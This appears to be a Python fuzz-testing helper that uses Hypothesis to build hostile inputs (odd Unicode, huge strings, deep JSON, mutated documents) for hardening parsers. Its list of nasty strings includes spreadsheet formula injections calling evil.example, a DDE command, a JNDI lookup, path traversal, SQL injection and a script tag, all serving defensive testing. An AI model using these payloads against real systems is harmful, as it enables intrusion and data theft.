"""Hostile data for every input boundary: text, JSON of any shape, mutations of valid documents."""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

#: strings that have broken parsers, terminals, spreadsheets and templates before
NASTY = (
    "",
    " ",
    "\t\n",
    "\x00",
    "a\x00b",
    "\u202etxt.exe",
    "\ufeffBOM",
    "💥🚢",
    "漢字",
    "e\u0301",
    '=IMPORTXML("https://evil.example/","//a")',
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "[red]markup[/]",
    "[/]",
    "[bold",
    "%s%n%x",
    "{0}{1}",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "../../etc/passwd",
    "null",
    "NaN",
    "-1",
    "1e999",
    "\r\n\r\n",
    "'; DROP TABLE tasks; --",
    "<script>alert(1)</script>",
)


def huge_text(min_size: int = 1_000, max_size: int = 120_000) -> st.SearchStrategy[str]:
    """Long strings built cheaply (a unit repeated), ASCII or multi-byte."""
    return st.builds(
        lambda unit, n: (unit * (n // len(unit) + 1))[:n],
        st.sampled_from(["x", "é", "漢", "💥", "ab\n", " ", "\x00"]),
        st.integers(min_size, max_size),
    )


def hostile_text(*, huge: bool = True, nul: bool = True) -> st.SearchStrategy[str]:
    """Unicode (no lone surrogates: no JSON encoder emits them), nasty strings and, optionally, huge ones."""
    nasty = [s for s in NASTY if nul or "\x00" not in s]
    options: list[st.SearchStrategy[str]] = [
        st.text(max_size=40),
        st.sampled_from(nasty),
        st.text(st.characters(codec="utf-8", exclude_characters="" if nul else "\x00"), max_size=200),
    ]
    if huge:
        options.append(huge_text().filter(lambda s: nul or "\x00" not in s))
    return st.one_of(*options)


def keys() -> st.SearchStrategy[str]:
    return st.one_of(st.text(max_size=12), st.sampled_from(["", "type", "id", "input", "__proto__", "\x00"]))


def scalars(*, huge: bool = True) -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(huge=huge),
    )


def deep(depth: st.SearchStrategy[int] | None = None) -> st.SearchStrategy[Any]:
    """A list or object nested hundreds of levels deep."""

    def nest(n: int, as_object: bool) -> Any:
        value: Any = "bottom"
        for _ in range(n):
            value = {"a": value} if as_object else [value]
        return value

    return st.builds(nest, st.integers(50, 400) if depth is None else depth, st.booleans())


def json_values(*, huge: bool = True, max_leaves: int = 25) -> st.SearchStrategy[Any]:
    """JSON of any shape: scalars, lists, objects, deep nesting."""
    tree = st.recursive(
        scalars(huge=huge),
        lambda kids: st.lists(kids, max_size=5) | st.dictionaries(keys(), kids, max_size=6),
        max_leaves=max_leaves,
    )
    return st.one_of(tree, deep())


# --- mutations of a valid document ------------------------------------------------------------
def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(doc, dict):
        for key, value in doc.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(doc, list):
        for i, value in enumerate(doc):
            found += _paths(value, (*prefix, i))
    return found


def _apply(doc: Any, path: tuple[Any, ...], op: str, value: Any) -> Any:
    if not path:
        return value if op == "replace" else doc
    parent = doc
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    if op == "delete":
        del parent[last]
    elif op == "replace":
        parent[last] = value
    elif op == "extra" and isinstance(parent, dict):
        parent[f"{last}_extra"] = value
    return doc


_SMALL_VALUES = {huge: json_values(huge=huge, max_leaves=6) for huge in (False, True)}
_OPS = st.sampled_from(["replace", "replace", "delete", "extra"])


@st.composite
def mutated(draw: st.DrawFn, valid: Any, *, max_mutations: int = 3, huge: bool = False) -> Any:
    """`valid` with one to `max_mutations` random changes: a value replaced by any JSON (wrong type,
    hostile text), a field deleted, an extra field added."""
    doc = copy.deepcopy(valid)
    for _ in range(draw(st.integers(1, max_mutations))):
        paths = _paths(doc)
        path = paths[draw(st.integers(0, len(paths) - 1))]
        op = draw(_OPS) if path else "replace"
        doc = _apply(doc, path, op, draw(_SMALL_VALUES[huge]))
    return doc
